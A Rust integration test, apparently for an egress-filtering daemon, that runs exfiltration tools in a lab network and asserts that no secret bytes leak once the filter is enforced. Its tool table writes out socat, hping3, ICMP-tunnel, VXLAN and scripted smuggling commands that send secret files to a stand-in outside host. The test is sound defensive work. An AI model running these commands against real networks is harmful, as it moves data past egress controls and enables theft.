//! Tools in use: they carry a secret out where there is no filter, and not a byte of it
//! where there is. None of them is ours.

use std::{
    fs,
    path::Path,
    process::{Child, Stdio},
    thread,
    time::{Duration, Instant},
};

use netfilter_daemon::lab::battery::{
    Sink,
    collector::Collector,
    ledger::{Pieces, Round},
};

use crate::{
    resolvers::servers::{self, Server},
    world::World,
};

/// Nothing in it speaks of 203.0.113.9, and 10.99.0.1 may be asked for one name.
const POLICY: &str = "presets: [azure-ml]";

/// Packets cut the secret, so it is made of pieces of which most stay whole.
const PIECE: usize = 74;

/// A tool that has carried so much works, however slow a busy machine makes it: ptunnel-ng waits
/// for more than a second before it repeats what was lost.
const WORKS: usize = 1024;

/// By then a tool has ended, or never will: on a busy machine scapy takes its time to begin.
const PATIENCE: Duration = Duration::from_secs(40);

/// A program, what it is started with, and the secrets that it carries: files of these
/// names in DIR.
struct Tool {
    program: &'static str,
    arguments: &'static str,
    secrets: &'static [&'static str],
}

const fn tool(
    program: &'static str,
    arguments: &'static str,
    secrets: &'static [&'static str],
) -> Tool {
    Tool {
        program,
        arguments,
        secrets,
    }
}

const TOOLS: &[Tool] = &[
    // Through ptunnel-ng, which is there before.
    tool(
        "socat",
        "-u DIR/ptunnel TCP:127.0.0.1:8000,retry=50,interval=0.1",
        &["ptunnel"],
    ),
    // Through a device of `ip link add type vxlan`.
    tool(
        "socat",
        "-u -b1000 DIR/vxlan UDP-DATAGRAM:10.7.0.255:9999,broadcast",
        &["vxlan"],
    ),
    tool(
        "socat",
        "-u DIR/tcp TCP:203.0.113.9:443,connect-timeout=2",
        &["tcp"],
    ),
    tool(
        "socat",
        "-u -b1000 DIR/udp UDP-DATAGRAM:203.0.113.9:9999",
        &["udp"],
    ),
    tool(
        "socat",
        "-u -b1000 DIR/protocol IP4-SENDTO:203.0.113.9:253",
        &["protocol"],
    ),
    tool(
        "hping3",
        "-q --icmp -i u2000 -c 76 -d 1000 -E DIR/icmp 203.0.113.9",
        &["icmp"],
    ),
    tool(
        "hping3",
        "-q -S -p 443 -i u2000 -c 76 -d 1000 -E DIR/syn 203.0.113.9",
        &["syn"],
    ),
    tool(
        "hping3",
        "-q --udp -p 53 -i u2000 -c 76 -d 1000 -E DIR/udp53 10.99.0.1",
        &["udp53"],
    ),
    tool(
        "hping3",
        "-q --icmp --frag -m 512 -i u2000 -c 76 -d 1000 -E DIR/frag 203.0.113.9",
        &["frag"],
    ),
    tool(
        "hping3",
        "-q --rawip -H 47 -i u2000 -c 76 -d 1000 -E DIR/gre 203.0.113.9",
        &["gre"],
    ),
    tool(
        "python3",
        "DIR/smuggle.py 203.0.113.9 10.99.0.1 mcr.microsoft.com fragments=DIR/fragments source-route=DIR/route ethertype=DIR/ethertype dns=DIR/dns sctp=DIR/sctp",
        &["fragments", "route", "ethertype", "dns", "sctp"],
    ),
];

const SMUGGLE: &str = include_str!("tools/smuggle.py");

/// With the filter they get no less, however fast they were without it: what leaks slowly shows.
const WATCHED: Duration = Duration::from_secs(20);

/// Bytes of each secret that arrived. With the filter, the tools get `time`, and those
/// that have not ended then as much again.
fn carry(enforced: bool, time: Duration) -> Vec<(&'static str, usize)> {
    let world = World::new(None);
    let secrets: Vec<_> = TOOLS.iter().flat_map(|tool| tool.secrets).collect();
    let readers = vec![None; secrets.len()];
    let sink = Collector::start(&world.topology.internet, &[], readers).unwrap();
    let round = Round {
        seed: u64::from(std::process::id()),
        number: u8::from(enforced),
    };
    sink.begin(round).unwrap();
    let directory = tempfile::tempdir().unwrap();
    fs::write(directory.path().join("smuggle.py"), SMUGGLE).unwrap();
    for (number, name) in (0..).zip(&secrets) {
        let pieces = Pieces::new(round, number);
        let secret: Vec<u8> = pieces.of(PIECE).flatten().collect();
        fs::write(directory.path().join(name), secret).unwrap();
    }
    let _daemon = enforced.then(|| world.enforce(POLICY));
    for command in [
        "link add vx0 type vxlan id 7 remote 203.0.113.9 dstport 4789 dev eth0",
        "address add 10.7.0.1/24 dev vx0",
        "link set vx0 up",
    ] {
        world.protected().ip(command).unwrap();
    }
    let proxied = ["-r127.0.0.1", "-R443"];
    let through = [&["-p203.0.113.9", "-l8000"], &proxied[..]].concat();
    let (internet, protected) = (&world.topology.internet, world.protected());
    let _far = Server::spawn(internet, "ptunnel-ng", &[], &proxied);
    let _near = Server::spawn(protected, "ptunnel-ng", &[], &through);

    let deadline = if enforced { time * 2 } else { PATIENCE };
    let begin = Instant::now();
    let started: Vec<_> = TOOLS
        .iter()
        .map(|tool| start(&world, tool, directory.path()))
        .collect();
    for child in started {
        finish(child, begin + deadline);
    }
    let mut arrived = sink.arrived().unwrap();
    let is_over = |arrived: &[usize]| {
        let shown = arrived.iter().take(secrets.len()).all(|it| *it >= WORKS);
        begin.elapsed() > if enforced { time } else { PATIENCE } || !enforced && shown
    };
    while !is_over(&arrived) {
        thread::sleep(Duration::from_millis(100));
        arrived = sink.arrived().unwrap();
    }
    secrets.into_iter().copied().zip(arrived).collect()
}

fn start(world: &World, tool: &Tool, directory: &Path) -> Child {
    let directory = directory.to_str().unwrap();
    let mut command = servers::command(world.protected(), tool.program);
    command
        .args(tool.arguments.replace("DIR", directory).split(' '))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    if tool.program == "python3" {
        let packages = servers::servers().join("usr/lib/python3/dist-packages");
        command.env("PYTHONPATH", packages);
        command.env_remove("LD_LIBRARY_PATH");
    }
    command.spawn().unwrap_or_else(|error| {
        let program = tool.program;
        panic!("unavailable: {program}: {error}; `cargo xtask test --only setup` unpacks it")
    })
}

/// Waits for its end, whatever it says: what counts is what arrived.
fn finish(mut child: Child, deadline: Instant) {
    while child.try_wait().unwrap().is_none() {
        if Instant::now() > deadline {
            child.kill().unwrap();
        }
        thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn no_tool_carries_a_byte_out() {
    let begin = Instant::now();
    let open = carry(false, Duration::ZERO);
    let stuck: Vec<_> = open
        .iter()
        .filter(|(_, arrived)| *arrived < WORKS)
        .collect();
    assert!(
        stuck.is_empty(),
        "unavailable: what does not work without the filter shows nothing: {stuck:?}"
    );
    let leaked: Vec<_> = carry(true, begin.elapsed().clamp(WATCHED, PATIENCE))
        .into_iter()
        .filter(|(_, arrived)| *arrived > 0)
        .collect();
    assert!(leaked.is_empty(), "{leaked:?}");
}
